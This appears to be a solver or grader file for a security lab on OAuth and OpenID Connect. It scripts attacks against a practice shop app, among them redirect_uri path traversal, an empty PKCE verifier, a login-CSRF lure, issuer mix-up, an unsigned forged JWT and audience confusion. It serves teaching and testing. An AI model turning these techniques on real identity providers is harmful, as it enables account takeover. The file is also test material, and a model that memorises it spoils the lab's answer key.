import { codeIn } from '../../bike-shop.ts';
import type { LessonSolver, Participant } from '../../solver.ts';
import { contentOf, unsigned } from '../a06-forged-token/forge.ts';
import { codeOfVictim, newest } from '../attack-and-defend.ts';
import { resultOn, signInToApp } from '../lab-app.ts';
import { logInAtShop, redeemAtShop, shopRequest } from '../lab-shop.ts';

const phone = (by: Participant) => ({ client_id: 'lab-phone', redirect_uri: `${by.issuer}/labs/shop` });
const weather = (by: Participant) => ({ client_id: 'lab-weather', redirect_uri: `${by.issuer}/labs/evil` });
const scope = 'openid products:read';

function linkTo(by: Participant, request: Readonly<Record<string, string>>): string {
  return `<a href="${by.issuer}/oauth2/authorize?${shopRequest({ scope, ...request })}">Go</a>`;
}

const callApi = (by: Participant, token: string) =>
  by.call('/labs/api/products', { headers: { Authorization: `Bearer ${token}` } });

/** The attacks, by the check that stops each of them. They end early where it is not missing. */
const attacks: Readonly<Record<string, (by: Participant) => Promise<void>>> = {
  redirect: by => by.attack('victim', linkTo(by, { ...phone(by), redirect_uri: `${by.issuer}/labs/shop/../evil` })),
  async pkce(by) {
    await by.attack('victim:phone');
    await redeemAtShop(by, await codeOfVictim(by), { ...phone(by), code_verifier: '' });
  },
  async state(by) {
    const login = await by.submit(await by.open('/demo-app'), 'app-sign-in');
    const callback = `${new URL(by.issuer).pathname}/demo-app/callback`;
    const { url } = await by.submitUntil(login, 'login-user-mallory', callback);
    await by.attack('victim', `<meta http-equiv="refresh" content="0; url=${url.href}">`);
  },
  async iss(by) {
    await by.attack('victim:provider', '<a href="{{issuer}}/oauth2/authorize{{query}}">Sign in</a>');
    const client = {
      client_id: 'lab-app',
      client_secret: 'app-secret',
      redirect_uri: `${by.issuer}/demo-app/callback`,
    };
    await redeemAtShop(by, await codeOfVictim(by), { ...client, code_verifier: '' });
  },
  async alg(by) {
    const { url } = await logInAtShop(by, 'mallory', { scope, ...phone(by) });
    const { access_token = '' } = await redeemAtShop(by, codeIn({ url }), phone(by));
    const { header, claims } = contentOf(access_token);
    await callApi(by, unsigned({ header, claims: { ...claims, sub: 'alice' } }));
  },
  async aud(by) {
    await by.attack('victim', linkTo(by, weather(by)));
    const { access_token = '' } = await redeemAtShop(by, await codeOfVictim(by), weather(by));
    await callApi(by, access_token);
  },
  async email(by) {
    await by.attack('victim');
    const login = await by.submit(await by.open('/demo-app'), 'app-sign-in-second');
    await by.submit(login, 'login-user-mallory');
  },
};

/** Tries one after the other, as somebody does who does not know. */
async function allBut(by: Participant, missing: string | undefined): Promise<void> {
  for (const [check, attack] of Object.entries(attacks)) if (check !== missing) await attack(by);
}

/** What everybody in the scene may do. */
async function honest(by: Participant): Promise<void> {
  await by.attack('victim');
  await by.attack('victim:phone');
  const { url } = await logInAtShop(by, 'alice', { scope, ...phone(by) });
  const { access_token = '' } = await redeemAtShop(by, codeIn({ url }), phone(by));
  await callApi(by, access_token);
}

export const solver: LessonSolver = {
  goal: {
    solve: by => attacks[by.missing ?? '']?.(by) ?? allBut(by, undefined),
    nearMisses: {
      'the attacks that the other checks stop': { does: by => allBut(by, by.missing) },
      'the victim and an honest sign-in': { does: honest },
      "a code of one's own": {
        async does(by) {
          const said = resultOn(await signInToApp(by, 'mallory'));
          if (!said.includes('Mallory')) throw new Error(`the website says: ${said}`);
          await by.open(
            `/labs/evil?code=${(await newest<{ readonly token: string }>(by.issuer, 'code.issued')).token}`,
          );
        },
      },
    },
  },
};
